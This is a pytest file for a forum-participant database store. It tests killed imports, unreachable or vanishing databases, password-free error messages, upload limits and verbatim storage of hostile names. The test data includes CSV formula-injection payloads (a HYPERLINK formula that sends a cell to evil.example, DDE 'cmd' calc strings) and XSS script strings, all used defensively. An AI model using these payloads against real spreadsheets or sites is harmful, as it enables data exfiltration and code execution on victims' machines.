"""Faults and abuse around the store: a killed import, an unreachable database, hostile text.

Runs on SQLite, and on PostgreSQL when FORUMREACH_TEST_DB_URL is set (``make test`` does).
Zip and XML bombs are refused by the reader before anything reaches the store: see
tests/test_ingest.py (test_zip_bomb_is_refused_before_parsing, test_xml_entity_bomb_is_refused).
"""

import contextlib
import os
import signal
import socket
import subprocess
import sys
import threading
import tomllib
import traceback

import pytest
from sqlalchemy import func, select
from sqlalchemy.engine import make_url

from forumreach import ROOT, ingest
from forumreach.sheet_safety import MAX_BYTES
from forumreach.store import EventMeta, Store, StoreUnavailable, participants_table
from tests.store_db import TEST_DB_URL_ENV, big_sheet, start_python, test_db_url

KILLED_ROWS = 20_000
SECRET = "Pa55-w0rd-not-for-logs"

# The child saves a big import and, once every participant row is inserted but before the
# commit, reports the count it can see in its own transaction and waits to be killed.
KILLED_MID_IMPORT = """
import sys, time
from sqlalchemy import func, select
from forumreach import store as store_module
from tests.store_db import big_sheet
from tests.test_store_faults import killed_meta

def stall(conn, *args, **kwargs):
    inserted = conn.execute(
        select(func.count()).select_from(store_module.participants_table)).scalar_one()
    print(f"inserted {inserted}", flush=True)
    time.sleep(600)

store = store_module.Store(sys.argv[1])
store_module._record = stall
store.save_event(killed_meta(), big_sheet(int(sys.argv[2])))
"""


def killed_meta():
    return EventMeta(slug="issyk-kul-forum-2018", title="Issyk-Kul LSG forum", vintage="2018",
                     source_filename="forum_2018.xlsx", source_sha256="f" * 64)


@pytest.fixture
def db_url(tmp_path):
    return test_db_url(tmp_path)


@pytest.fixture
def store(db_url):
    opened = Store(db_url)
    yield opened
    opened.engine.dispose()


def participant_count(store):
    with store.engine.connect() as conn:
        return conn.execute(select(func.count()).select_from(participants_table)).scalar_one()


def test_an_import_killed_before_its_commit_leaves_nothing_and_can_be_repeated(store, db_url):
    child = start_python(KILLED_MID_IMPORT, db_url, str(KILLED_ROWS))
    try:
        line = child.stdout.readline()
        assert line.strip() == f"inserted {KILLED_ROWS}", child.stderr.read()
    finally:
        child.send_signal(signal.SIGKILL)
        child.wait(timeout=30)
        child.stdout.close()
        child.stderr.close()
    assert child.returncode == -signal.SIGKILL

    assert store.list_events().empty
    assert participant_count(store) == 0
    assert store.audit_log().empty

    event_id = store.save_event(killed_meta(), big_sheet(KILLED_ROWS))

    assert store.list_events()["n_participants"].tolist() == [KILLED_ROWS]
    assert store.audit_log()["target"].tolist() == [f"event:{event_id}"]


def refused_port() -> int:
    """A loopback port nothing listens on: bound, then closed."""
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def assert_says_nothing_secret(err: BaseException) -> None:
    """Neither the message nor a chained driver error (which a traceback would print)."""
    shown = "".join(traceback.format_exception_only(err))
    assert SECRET not in shown
    assert "forumreach_user" not in shown
    assert "psycopg" not in str(err).lower()
    assert "Traceback" not in str(err)
    assert err.__cause__ is None and err.__suppress_context__


def test_an_unreachable_database_is_a_clear_message_without_the_password():
    url = f"postgresql+psycopg://forumreach_user:{SECRET}@127.0.0.1:{refused_port()}/forumreach"

    with pytest.raises(StoreUnavailable) as caught:
        Store(url)

    assert "connection refused" in str(caught.value)
    assert "postgresql://127.0.0.1:" in str(caught.value)
    assert "FORUMREACH_DB_URL" in str(caught.value)
    assert_says_nothing_secret(caught.value)


def test_a_url_that_is_not_a_database_url_does_not_echo_its_password():
    with pytest.raises(StoreUnavailable) as caught:
        Store(f"forumreach_user:{SECRET}@db.example.kg/forumreach")

    assert "not a database URL" in str(caught.value)
    assert_says_nothing_secret(caught.value)


def test_a_sqlite_file_in_a_missing_folder_is_a_clear_message(tmp_path):
    with pytest.raises(StoreUnavailable, match="cannot be opened"):
        Store(f"sqlite:///{tmp_path / 'no' / 'such' / 'folder' / 'forumreach.sqlite'}")


@pytest.mark.skipif(not os.environ.get(TEST_DB_URL_ENV),
                    reason="needs PostgreSQL: set FORUMREACH_TEST_DB_URL (make test does)")
def test_a_wrong_database_password_is_refused_without_echoing_it():
    url = make_url(os.environ[TEST_DB_URL_ENV]).set(password=SECRET)

    with pytest.raises(StoreUnavailable) as caught:
        Store(url.render_as_string(hide_password=False))

    assert "user name or password was refused" in str(caught.value)
    assert_says_nothing_secret(caught.value)


@pytest.mark.skipif(not os.environ.get(TEST_DB_URL_ENV),
                    reason="needs PostgreSQL: set FORUMREACH_TEST_DB_URL (make test does)")
def test_the_postgresql_run_really_runs_on_postgresql(store):
    assert store.engine.dialect.name == "postgresql"


def test_the_command_line_reports_an_unreachable_database_in_one_line():
    url = f"postgresql+psycopg://forumreach_user:{SECRET}@127.0.0.1:{refused_port()}/forumreach"
    env = {**os.environ, "FORUMREACH_DB_URL": url}

    out = subprocess.run([sys.executable, "-m", "forumreach", "users", "list"], cwd=ROOT,
                         env=env, capture_output=True, text=True, timeout=60)

    assert out.returncode == 1
    assert out.stderr.startswith("error: The database postgresql://127.0.0.1:")
    assert len(out.stderr.strip().splitlines()) == 1
    assert SECRET not in out.stderr
    assert "Traceback" not in out.stderr


def test_the_app_lets_a_file_over_the_readers_limit_reach_the_page_to_be_refused_there():
    """Streamlit's own refusal is an English tooltip; the reader's is in the user's language,
    so the app's limit sits above the reader's 20 MB and the reader decides."""
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())

    assert MAX_BYTES == 20 * 2**20
    assert config["server"]["maxUploadSize"] * 2**20 > MAX_BYTES
    assert config["server"]["enableXsrfProtection"] is True


def test_a_file_over_the_size_limit_is_refused_with_its_size_and_the_limit():
    oversized = b"x" * (3 * 2**20 + 1)

    with pytest.raises(ingest.IngestError) as caught:
        ingest.read_sheet(oversized, "registration.csv", max_bytes=2 * 2**20)

    assert str(caught.value) == (
        "registration.csv: the file is too large (3.0 MB; the limit is 2 MB)"
    )


HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "+996 555 123 456",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '<script>alert("xss")</script>',
    '<img src=x onerror="alert(1)">Асанова',
    "Айгүл\u202e\u200b Zero-width and bidi",
]


def test_formulas_and_markup_in_names_are_stored_and_loaded_verbatim_as_text(store):
    sheet = big_sheet(len(HOSTILE_NAMES)).assign(name=HOSTILE_NAMES, organisation=HOSTILE_NAMES)

    loaded = store.load_participants(store.save_event(killed_meta(), sheet))

    assert loaded["name"].tolist() == HOSTILE_NAMES
    assert loaded["organisation"].tolist() == HOSTILE_NAMES
    assert all(isinstance(name, str) for name in loaded["name"])


def test_a_hostile_alias_name_reaches_the_audit_export_as_plain_text(store):
    store.upsert_alias("2018", HOSTILE_NAMES[0], "41702205810000", actor="analyst")

    exported = store.audit_export()

    assert exported["target"].tolist() == [f"alias:2018:*:{HOSTILE_NAMES[0]}"]
    assert exported["target"].map(type).tolist() == [str]


class LoopbackRelay:
    """A TCP relay to the test PostgreSQL that can be cut, as when the server goes away."""

    def __init__(self, port: int) -> None:
        self.target = port
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.port = self.listener.getsockname()[1]
        self.links: list = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                client, _ = self.listener.accept()
            except OSError:
                return
            server = socket.create_connection(("127.0.0.1", self.target))
            self.links += [client, server]
            for a, b in ((client, server), (server, client)):
                threading.Thread(target=self._pump, args=(a, b), daemon=True).start()

    @staticmethod
    def _pump(source, sink) -> None:
        try:
            while data := source.recv(65536):
                sink.sendall(data)
        except OSError:
            pass
        finally:
            for end in (source, sink):
                end.close()

    def cut(self) -> None:
        with contextlib.suppress(OSError):
            self.listener.shutdown(socket.SHUT_RDWR)  # wakes accept(); close alone does not
        self.listener.close()
        for link in self.links:
            with contextlib.suppress(OSError):
                link.shutdown(socket.SHUT_RDWR)
            link.close()


@pytest.mark.skipif(not os.environ.get(TEST_DB_URL_ENV),
                    reason="needs PostgreSQL: set FORUMREACH_TEST_DB_URL (make test does)")
def test_a_database_that_goes_away_after_opening_is_a_clear_message(db_url):
    real = make_url(db_url)
    relay = LoopbackRelay(real.port)
    store = Store(real.set(port=relay.port).render_as_string(hide_password=False))
    try:
        assert store.list_events().empty

        relay.cut()

        with pytest.raises(StoreUnavailable) as caught:
            store.list_events()
        assert "is unavailable" in str(caught.value)
        assert_says_nothing_secret(caught.value)
        assert real.password not in str(caught.value)
    finally:
        store.engine.dispose()
